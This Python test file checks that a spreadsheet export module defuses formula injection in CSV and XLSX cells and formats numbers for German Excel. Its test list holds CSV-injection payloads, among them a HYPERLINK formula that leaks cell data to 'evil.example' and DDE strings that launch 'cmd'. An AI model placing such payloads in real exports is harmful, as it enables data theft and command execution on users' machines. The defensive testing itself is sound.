"""Spreadsheet cells: text that a spreadsheet would run as a formula is written inert."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from lms.spreadsheets import (
    csv_bytes,
    csv_cell,
    csv_row,
    csv_text_restore,
    is_formula_like,
    xlsx_append,
)

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?"&A1;"Details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_csv_cell_prefixes_formula_text_and_restore_gives_it_back(text):
    written = csv_cell(text)
    assert written == "'" + text
    assert not is_formula_like(written)
    assert csv_text_restore(written) == text


@pytest.mark.parametrize("text", ["Referat A", "", "'", "'=already quoted", "''", "Größe 5"])
def test_csv_round_trip_is_exact_for_harmless_and_apostrophe_text(text):
    assert csv_text_restore(csv_cell(text)) == text
    assert not is_formula_like(csv_cell(text))


def test_numbers_get_a_decimal_comma_and_never_a_quote():
    assert csv_row([-5, 2.5, None, 0, -1.25, Decimal("3.10"), 1e-7, 2e20]) == [
        -5,
        "2,5",
        None,
        0,
        "-1,25",
        "3,10",
        "0,0000001",
        "200000000000000000000",
    ]
    out = io.StringIO()
    csv.writer(out).writerow(csv_row([-5, "-5"]))
    assert out.getvalue() == "-5,'-5\r\n"


def test_csv_files_are_written_for_excel_with_german_settings():
    """Semicolons, decimal comma, ISO dates, BOM and CRLF; text stays inert; one dialect."""
    data = csv_bytes(
        [["Einheit", "Mittlere Lücke", "Stichtag"], ["=Referat 1", 1.6, dt.date(2026, 3, 31)]]
    )
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert text == "Einheit;Mittlere Lücke;Stichtag\r\n'=Referat 1;1,6;2026-03-31\r\n"
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1] == ["'=Referat 1", "1,6", "2026-03-31"]


def test_xlsx_text_cells_are_text_with_quote_prefix_and_numbers_stay_numbers():
    workbook = Workbook()
    xlsx_append(workbook.active, [*DANGEROUS, "#N/A", "Referat A", 7, -1.5])
    buffer = io.BytesIO()
    workbook.save(buffer)

    row = next(load_workbook(buffer).active.iter_rows())

    for cell, text in zip(row, [*DANGEROUS, "#N/A", "Referat A"], strict=False):
        assert (cell.value, cell.data_type) == (text, "s")
        assert cell.quotePrefix is is_formula_like(text)
    assert [(c.value, c.data_type) for c in row[-2:]] == [(7, "n"), (-1.5, "n")]
